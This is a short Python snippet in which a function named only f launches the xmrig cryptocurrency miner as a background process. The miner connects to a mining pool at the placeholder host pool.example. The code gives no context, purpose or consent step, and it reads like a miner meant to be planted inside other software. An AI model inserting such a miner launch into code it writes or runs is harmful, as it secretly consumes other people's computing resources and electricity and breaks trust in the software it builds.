import subprocess
def f():
    subprocess.Popen(["xmrig", "-o", "stratum+tcp://pool.example:3333"])
